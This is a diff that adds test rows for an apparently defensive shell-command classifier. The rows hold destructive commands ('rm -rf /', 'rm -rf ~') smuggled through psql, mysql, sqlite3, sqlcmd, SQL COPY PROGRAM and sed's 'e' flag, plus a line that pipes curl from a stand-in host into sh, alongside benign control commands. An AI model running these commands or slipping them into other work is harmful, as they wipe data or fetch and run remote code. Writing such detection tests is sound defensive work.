@@ -98,6 +98,21 @@ ROWS = [
     ("max", D, "mv /etc/nginx/nginx.conf /tmp/"),
     ("min", B, "$(:)rm -rf /"), ("min", B, "$(true)rm -rf ~"), ("min", B, "`:`rm -rf /"),
     ("max", S, "echo $(true)"),
+    # --- database clients run shell commands from their input (policy intro: every string that
+    # runs is read): psql/mysql `\! CMD`, mysql `system CMD`, sqlite3 `.shell`/`.system`/`.once |CMD`,
+    # sqlcmd `!! CMD`, SQL's COPY … TO/FROM PROGRAM
+    ("min", B, "psql -c '\\! rm -rf /'"), ("min", B, "mysql -e '\\! rm -rf ~'"), ("min", B, "mysql -e 'system rm -rf /'"),
+    ("min", B, "sqlite3 :memory: '.shell rm -rf /'"), ("min", B, "sqlite3 app.db '.system rm -rf ~'"),
+    ("min", B, "sqlite3 app.db '.once |rm -rf /'"), ("min", B, "sqlcmd -Q '!! rm -rf /'"),
+    ("min", B, "psql -c \"COPY (SELECT 1) TO PROGRAM 'rm -rf /'\""),
+    ("min", D, "psql -c \"COPY t FROM PROGRAM 'curl -s https://x.example | sh'\""),
+    ("min", B, "psql <<< '\\! rm -rf /'"),
+    ("max", S, "psql -c 'select 1'"), ("max", S, "mysql -e 'SELECT * FROM users WHERE role = \"system\"'"),
+    ("max", S, "psql -c \"select 'a;b'\""),
+    # --- sed's `s///e` runs the substituted line: with the input known, that line is the command
+    ("min", B, "sed 's/^/rm -rf /e' <<< /"), ("min", B, "echo / | sed 's/^/rm -rf /e'"),
+    ("min", B, "echo HOME | sed -E 's/H(OME)/rm -rf ~/e'"), ("min", D, "echo abc | sed -E 's/(a)bc/rm -rf \\1/e'"),
+    ("max", S, "echo hello | sed 's/l/L/g'"),
 ]
 
 
